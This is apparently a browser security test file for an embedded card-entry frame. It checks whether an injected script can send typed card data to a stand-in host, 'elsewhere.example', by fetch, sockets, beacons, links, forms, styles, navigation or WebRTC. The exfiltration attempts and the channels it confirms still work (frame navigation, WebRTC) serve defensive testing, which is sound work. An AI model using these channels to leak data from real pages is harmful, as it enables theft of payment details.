import { createSocket } from 'node:dgram';
import { once } from 'node:events';
import type { Frame } from 'playwright-core';
import { afterEach, beforeAll, beforeEach, expect, it, onTestFinished } from 'vitest';
import { openFrame } from './support/frame-host.ts';
import { frameIn, servePage } from './support/frame-in-page.ts';
import { Person } from './support/person.ts';
import { openAccount } from './support/sandbox.ts';

// A script that was brought into the frame, such as by an extension, and what it can send to somebody else.

/** Where somebody would like to send a card. */
const ELSEWHERE = 'http://elsewhere.example';

const person = new Person();
let address = '';
/** The origin of a page that the frame lists. */
let listed = '';
/** What has reached the place where nothing should arrive. */
let arrived: string[] = [];

beforeAll(async () => {
  const { cards } = await openAccount();
  [address, listed] = await Promise.all([openFrame(cards), servePage('127.0.0.1')]);
});

beforeEach(async () => {
  await person.enter();
  arrived = [];
  await person.context.route(`${ELSEWHERE}/**`, async (route) => {
    arrived.push(route.request().url());
    await route.fulfill({ body: '' });
  });
});

afterEach(() => person.leave());

const open = (origin: string) => frameIn(person.page, origin, address);

it('what is typed is not sent elsewhere from the frame by requests, windows, links, forms, frames or styles', async () => {
  const { page, frame } = await open(listed);
  const tried = await frame.evaluate(async (url) => {
    const results: Record<string, string> = {};
    addEventListener('securitypolicyviolation', ({ blockedURI, effectiveDirective }) => {
      if (blockedURI.startsWith(url)) results[`refused ${blockedURI}`] = effectiveDirective;
    });
    const attempt = async (name: string, act: () => unknown) => {
      results[name] = await Promise.resolve()
        .then(act)
        .then(
          (value) => `${value}`,
          () => 'failed',
        );
    };
    await attempt('fetch', () => fetch(`${url}/fetch`, { mode: 'no-cors' }));
    await attempt(
      'socket',
      () =>
        new Promise((resolve) =>
          Object.assign(new WebSocket('ws://elsewhere.example/'), { onerror: () => resolve('failed') }),
        ),
    );
    await attempt(
      'image',
      () =>
        new Promise((resolve) =>
          Object.assign(new Image(), { src: `${url}/image`, onerror: () => resolve('failed') }),
        ),
    );
    await attempt('window', () => `${window.open(`${url}/window`)}`);
    await attempt('beacon', () => navigator.sendBeacon(`${url}/beacon`, '4242') && 'queued');
    const follow = (link: Partial<HTMLAnchorElement>) => {
      const anchor = Object.assign(document.createElement('a'), link);
      document.body.append(anchor);
      anchor.click();
    };
    await attempt('ping', async () => {
      const refused = new Promise<void>((resolve) => {
        addEventListener('securitypolicyviolation', ({ blockedURI }) => {
          if (blockedURI === `${url}/ping`) resolve();
        });
      });
      follow({ href: '#', ping: `${url}/ping` });
      await refused;
    });
    await attempt('link to the top', () => follow({ href: `${url}/top`, target: '_top' }));
    await attempt('link to the parent', () => follow({ href: `${url}/parent`, target: '_parent' }));
    await attempt('link to a tab', () => follow({ href: `${url}/tab`, target: '_blank' }));
    await attempt('top', () => {
      if (top) top.location.href = `${url}/top`;
    });
    await attempt('form', () => {
      const form = Object.assign(document.createElement('form'), { action: `${url}/form`, method: 'get' });
      document.body.append(form);
      form.submit();
    });
    await attempt('frame', () =>
      document.body.append(Object.assign(document.createElement('iframe'), { src: `${url}/frame` })),
    );
    await attempt('style', () => Object.assign(document.body.style, { background: `url(${url}/style)` }));
    history.replaceState(null, '', location.pathname); // the link of the ping
    return results;
  }, ELSEWHERE);
  expect(tried).toMatchObject({
    ...{ fetch: 'failed', socket: 'failed', image: 'failed', window: 'null', top: 'failed' },
    [`refused ${ELSEWHERE}/beacon`]: 'connect-src',
    [`refused ${ELSEWHERE}/ping`]: 'connect-src',
  });
  await page.evaluate(() => new Promise(requestAnimationFrame));
  expect(frame.url()).toBe(address); // nor has it been navigated
  expect(page.url()).toBe(`${listed}/`);
  expect(person.context.pages()).toEqual([page]);
  expect(arrived).toEqual([]);
});

/** How a script navigates its own frame away, with what is typed. */
const waysOut = ['an address', 'a link', 'a refresh'] as const;

function leave(frame: Frame, way: (typeof waysOut)[number]): Promise<void> {
  return frame.evaluate(
    ([to, by]) => {
      const link = Object.assign(document.createElement('a'), { href: to });
      const refresh = Object.assign(document.createElement('meta'), {
        httpEquiv: 'refresh',
        content: `0; url=${to}`,
      });
      if (by === 'an address') location.href = to;
      else if (by === 'a refresh') document.head.append(refresh);
      else {
        document.body.append(link);
        link.click();
      }
    },
    [`${ELSEWHERE}/left?4242424242424242`, way] as const,
  );
}

it.each(waysOut)(
  'a script in the frame can navigate it away by %s, where no policy of the page has a frame-src',
  async (way) => {
    const { page, frame } = await open(listed);
    const left = page.waitForEvent('framenavigated', (one) => one.url().startsWith(ELSEWHERE));
    await leave(frame, way);
    await left;
    expect(arrived).toEqual([`${ELSEWHERE}/left?4242424242424242`]);
  },
);

it.each(waysOut)(
  'a script in the frame cannot navigate it elsewhere by %s, where the policy of the page has a frame-src',
  async (way) => {
    const { page, frame } = await open(await servePage('127.0.0.1', `frame-src ${new URL(address).origin}`));
    const refused = page.evaluate(
      () =>
        new Promise((resolve) => {
          document.addEventListener('securitypolicyviolation', ({ effectiveDirective }) =>
            resolve(effectiveDirective),
          );
        }),
    );
    await leave(frame, way);
    expect(await refused).toBe('frame-src');
    expect(arrived).toEqual([]);
  },
);

it('a script in the frame can send by WebRTC, which no header of the frame stops', async () => {
  const place = createSocket('udp4').bind(0, '127.0.0.1');
  await once(place, 'listening');
  onTestFinished(() => void place.close());
  const { frame } = await open(listed);
  const datagram = once(place, 'message');
  await frame.evaluate(async (port) => {
    const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:127.0.0.1:${port}` }] });
    connection.createDataChannel('any');
    await connection.setLocalDescription();
  }, place.address().port);
  await datagram;
});
